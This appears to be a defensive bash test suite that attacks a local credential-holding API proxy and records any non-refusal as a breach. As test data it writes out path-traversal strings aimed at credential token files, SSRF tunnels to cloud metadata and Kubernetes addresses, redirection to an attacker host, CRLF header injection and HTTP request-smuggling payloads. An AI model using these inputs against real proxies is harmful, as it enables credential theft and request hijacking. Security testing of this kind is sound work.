#!/usr/bin/env bash
# The helper's ports: the proxy at 8787, which has the credential, and the probes' at 8788. Sourced by run.sh.
# x-claude-code-probe marks what reaches the upstream, so that the test can look at it there; @@ in a request is the attacker's server, which no other test has.
# shellcheck disable=SC2154

small='{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"scenario:text"}]}]}'
# method and target, more header lines
ask() { http 127.0.0.1 8787 "$1 HTTP/1.1\r\nHost: 127.0.0.1:8787\r\nConnection: close\r\n${2-}\r\n"; }
# more header lines: a request as Claude Code's
post() { http 127.0.0.1 8787 "POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:8787\r\nConnection: close\r\nContent-Type: application/json\r\n${1-}Content-Length: ${#small}\r\n\r\n$small"; }
# anything but a refusal is a breach
turned_away() {
  local answer status
  answer=$(ask "$@")
  echo "$answer"
  status=$(code <<<"$answer")
  case $status in
    4?? | 50? | '') ;;
    *) breach "$1: $status" ;;
  esac
}

probe helper-answers "asks for what it may: else refusals would prove nothing"
helper-answers() {
  local answer
  answer=$(post 'x-claude-code-probe: plain @@\r\n')
  echo "$answer"
  [ "$(code <<<"$answer")" = 200 ] || breach "no 200: $answer"
}

probe helper-paths "asks the proxy for paths of the vendor's API that manage accounts, keys, files and logins"
helper-paths() {
  local path
  for path in / /v1 /v1/ /v1/oauth/token /v1/organizations /v1/organizations/me /v1/organizations/api_keys /v1/organizations/workspaces /v1/organizations/invites \
    /v1/files /v1/files/x/content /v1/messages/batches /v1/complete /v1/skills /api/oauth/profile /api/oauth/claude_cli/create_api_key /api/oauth/claude_cli/roles \
    /api/claude_code/metrics /api/event_logging/batch /api/hello /v1/environments /v1/sessions /v1/mcp_servers /v1/models/; do
    turned_away "GET $path"
    turned_away "POST $path" 'Content-Length: 0\r\n'
  done
}

probe helper-own-paths "asks the proxy for paths that servers use for themselves"
helper-own-paths() {
  local path
  for path in /env /config /config.json /credentials/0/token /state/counts.json /healthz /readyz /metrics /debug/pprof /actuator/env /proc/self/environ /.env /server-status /__admin/requests; do
    turned_away "GET $path"
  done
}

probe helper-traversal "reaches other paths by dots, escapes, doubled slashes and semicolons"
helper-traversal() {
  local path
  for path in /v1/messages/../organizations /v1/messages/..%2forganizations /v1/messages/%2e%2e/organizations '/v1/messages;/../organizations' //v1/messages /v1//messages \
    /v1/./messages /v1/%6dessages /v1/messages/ /v1/messages%00 /v1/messages%0d%0ax: /v1/models/.. /v1/models/../messages /v1/models/%2e%2e /v1/models/..%2fx \
    '/v1/models/a/../../x' '\\v1\\messages' /V1/MESSAGES /v1/messages/../../credentials/0/token '/v1/models/x#y' /../credentials/0/token; do
    turned_away "GET $path"
    turned_away "POST $path" 'Content-Length: 0\r\n'
  done
}

probe helper-methods "uses other methods, TRACE among them, which would echo headers"
helper-methods() {
  local method
  for method in TRACE TRACK OPTIONS PUT DELETE PATCH PROPFIND LINK DEBUG get 'GET\tx' "$(printf 'A%.0s' {1..300})"; do
    turned_away "$method /v1/messages" 'Max-Forwards: 0\r\n'
  done
}

probe helper-connect "opens a tunnel through the proxy"
helper-connect() {
  local target
  for target in "$ATTACKER" api.anthropic.com:443 169.254.169.254:80 127.0.0.1:8788 kubernetes.default.svc:443; do
    turned_away "CONNECT $target"
  done
}

probe helper-absolute-form "names another server in the request line"
helper-absolute-form() {
  http 127.0.0.1 8787 "POST http://$ATTACKER/v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-claude-code-probe: absolute @@\r\nContent-Length: ${#small}\r\n\r\n$small"
  http 127.0.0.1 8787 "POST http://user:x@$ATTACKER/v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-claude-code-probe: absolute @@\r\nContent-Length: ${#small}\r\n\r\n$small"
  http 127.0.0.1 8787 "GET http://$ATTACKER/v1/models HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\n\r\n"
  http 127.0.0.1 8787 "GET //$ATTACKER/v1/models HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\n\r\n"
  http 127.0.0.1 8787 "GET @$ATTACKER/v1/models HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\n\r\n"
}

probe helper-host "names another server in Host and in headers that proxies believe"
helper-host() {
  local header
  for header in "X-Forwarded-Host: $ATTACKER" "X-Forwarded-Server: $ATTACKER" "Forwarded: host=$ATTACKER" "X-Original-URL: http://$ATTACKER/" "X-Rewrite-URL: /v1/organizations" \
    "X-Host: $ATTACKER" "X-HTTP-Method-Override: DELETE" "Destination: http://$ATTACKER/" "Location: http://$ATTACKER/" "Host: $ATTACKER" "Referer: http://$ATTACKER/"; do
    post "$header\r\nx-claude-code-probe: host @@\r\n"
  done
  http 127.0.0.1 8787 "POST /v1/messages HTTP/1.1\r\nHost: $ATTACKER\r\nConnection: close\r\nx-claude-code-probe: host @@\r\nContent-Length: ${#small}\r\n\r\n$small"
}

probe helper-own-credential "sends credentials of its own, to be billed to somebody else or to see both"
helper-own-credential() {
  post 'x-claude-code-probe: own @@\r\nAuthorization: Bearer sk-ant-oat01-attacker\r\nx-api-key: sk-ant-api03-attacker\r\nCookie: sessionKey=attacker\r\nProxy-Authorization: Basic YTph\r\napi-key: attacker\r\n'
  post 'x-claude-code-probe: own @@\r\nAUTHORIZATION: Bearer sk-ant-oat01-attacker\r\nX-Api-Key: a\r\nX-Api-Key: b\r\nauthorization: Bearer c\r\n'
}

probe helper-connection-header "names the credential's header in Connection, for hops to drop"
helper-connection-header() {
  local answer
  answer=$(http 127.0.0.1 8787 "POST /v1/messages HTTP/1.1\r\nHost: x\r\nConnection: close, authorization, x-api-key, anthropic-beta\r\nx-claude-code-probe: connection @@\r\nContent-Length: ${#small}\r\n\r\n$small")
  echo "$answer"
  [ "$(code <<<"$answer")" = 200 ] || breach "$answer"
}

probe helper-header-injection "ends header lines within header values, folds them, and leaves colons out"
helper-header-injection() {
  post 'x-claude-code-probe: injection @@\r\nx-a: b\rAuthorization: Bearer attacker\r\n'
  post 'x-claude-code-probe: injection @@\r\nx-a: b\nX-Smuggled: lf\r\n'
  post 'x-claude-code-probe: injection @@\r\nx-a: b\r\n X-Smuggled: folded\r\n'
  post 'x-claude-code-probe: injection @@\r\nx-a: b\0X-Smuggled: nul\r\n'
  post 'x-claude-code-probe: injection @@\r\nx a b\r\n: empty\r\nx-b : c\r\n'
  post 'x-claude-code-probe: injection @@\r\nanthropic-beta: a\r\nanthropic-beta: b, oauth-2025-04-20\rX-Smuggled: beta\r\n'
}

probe helper-smuggling "hides a second request in a body, by contradicting lengths"
helper-smuggling() {
  local hidden='GET /v1/organizations?smuggled HTTP/1.1\r\nHost: x\r\n\r\n'
  hide() { limit=2 http 127.0.0.1 8787 "$1"; } # some leave the proxy waiting for more
  local head='POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-claude-code-probe: smuggling @@\r\n'
  hide "${head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$hidden" &
  hide "${head}Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n$hidden" &
  hide "${head}Transfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\nabc$hidden" &
  hide "${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n$hidden" &
  hide "${head}Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\nabc$hidden" &
  hide "${head}Content-Length: 3\r\nContent-Length: 60\r\n\r\nabc$hidden" &
  hide "${head}Content-Length: +3\r\n\r\nabc$hidden" &
  hide "${head}Content-Length: -1\r\n\r\n$hidden" &
  hide "${head}Content-Length: 3, 3\r\n\r\nabc$hidden" &
  hide "${head}Transfer-Encoding: chunked\r\n\r\n3;x=\r\nabc\r\n0\r\nX-Smuggled: trailer\r\nAuthorization: Bearer attacker\r\n\r\n$hidden" &
  hide "${head}Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n$hidden" &
  hide "${head}Expect: 100-continue\r\nContent-Length: 3\r\n\r\nabc$hidden" &
  hide "${head}Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n$hidden" &
  wait
}

probe helper-errors "makes the proxy say what went wrong: garbage, endless headers, a body that never comes"
helper-errors() {
  # shellcheck disable=SC2034
  local limit=1
  http 127.0.0.1 8787 'garbage\r\n\r\n'
  http 127.0.0.1 8787 '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'
  http 127.0.0.1 8787 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
  http 127.0.0.1 8787 "GET /v1/models HTTP/9.9\r\n\r\n"
  http 127.0.0.1 8787 "GET /v1/models/$(printf 'x%.0s' {1..9000}) HTTP/1.1\r\nHost: x\r\n\r\n"
  ask "GET /v1/models" "$(printf 'x-h%s: y\\r\\n' {1..400})"
  ask "GET /v1/models" "x-long: $(printf 'y%.0s' {1..70000})\r\n"
  ask "GET /v1/models/unknown-model"
  ask "POST /v1/messages" 'Content-Length: 10\r\n'
  post 'anthropic-beta: \x80\xff\xfe\r\n'
}

probe helper-query "asks for other things by query and fragment"
helper-query() {
  ask "GET /v1/models?url=http://$ATTACKER/&callback=http://$ATTACKER/&debug=1&echo=headers"
  ask "GET /v1/models?$(printf 'a=b&%.0s' {1..500})"
  ask 'HEAD /'
}

probe helper-pod-address "reaches the proxy by the Pod's own address"
helper-pod-address() {
  local address
  for address in $(hostname -I 2>/dev/null) "$(getent hosts "$(hostname)" | cut -d' ' -f1)"; do
    http "$address" 8787 'HEAD / HTTP/1.0\r\n\r\n' | grep -q '^HTTP/' && breach "$address answers"
    note "not at $address"
  done
  return 0
}

probe helper-probe-port "asks the probes' port for everything"
helper-probe-port() {
  local request
  for request in 'GET /healthz HTTP/1.1' 'GET /readyz HTTP/1.1' 'GET /startedz HTTP/1.1' 'GET / HTTP/1.1' 'GET /env HTTP/1.1' 'GET /../credentials/0/token HTTP/1.1' \
    'TRACE / HTTP/1.1' 'POST /v1/messages HTTP/1.1' 'GET /readyz?x HTTP/1.1' "GET /$(printf 'x%.0s' {1..5000})" 'garbage'; do
    http 127.0.0.1 8788 "$request\r\nHost: x\r\nX-Long: $(printf 'y%.0s' {1..3000})\r\n\r\n"
  done
}

probe helper-response "looks at all headers of an answer"
helper-response() {
  post 'x-claude-code-probe: response @@\r\n' | grep -ai -E '^(authorization|x-api-key|set-cookie|cookie|www-authenticate):' && breach "one of them is in it"
  return 0
}
